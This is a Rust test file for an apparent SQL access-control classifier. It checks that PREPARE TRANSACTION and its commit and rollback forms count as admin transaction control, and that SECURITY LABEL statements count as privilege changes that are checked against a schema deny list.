/// `PREPARE TRANSACTION` ends the transaction the body runs in, as COMMIT does (a `read_only`
/// body's, and what follows runs outside it): transaction control, `admin`, not the
/// `procedural` of `PREPARE name AS ...`. The grammar cannot parse it, so with `allow_unparsed`.
#[wasm_bindgen_test(unsupported = test)]
fn prepare_transaction_is_transaction_control() {
    let r = rules(&[Read, Procedural], &[], &[], true);
    for sql in ["prepare transaction 'x'", "PREPARE TRANSACTION $$x$$", "commit prepared 'x'", "rollback prepared 'x'"]
    {
        assert_eq!(judge(sql, &r).refusal, Some(SqlRefusal::Class(Admin)), "{sql:?}");
    }
    assert!(judge("prepare q as select 1; execute q", &r).allowed());
}

/// A security label, unlike a comment, is read by its provider to decide who may see what:
/// sepgsql's mandatory access control, anon's `MASKED` roles and columns, pgsodium's `ACCESS`
/// roles and encrypted columns. It is `privilege`, not `ddl`; its string (a masking function's
/// call) is read for deny lists.
#[wasm_bindgen_test(unsupported = test)]
fn security_label_is_privilege_unlike_comment() {
    let ddl = rules(&[Read, Ddl], &["auth"], &[], true);
    assert!(judge("comment on column public.t.c is 'x'", &ddl).allowed());
    for sql in [
        "security label for anon on role analyst is 'MASKED'",
        "security label for pgsodium on column public.t.c is 'ENCRYPT WITH KEY ID 1'",
        "SECURITY LABEL ON TABLE public.t IS 'system_u:object_r:sepgsql_table_t:s0'",
    ] {
        assert_eq!(judge(sql, &ddl).refusal, Some(SqlRefusal::Class(Privilege)), "{sql}");
    }
    let every = rules(&SqlClass::ALL, &["auth"], &[], true);
    let masked = "security label for anon on column public.t.c is 'MASKED WITH FUNCTION auth.mask(c)'";
    assert_eq!(judge(masked, &every).refusal, Some(SqlRefusal::Schema("auth".into())));
}
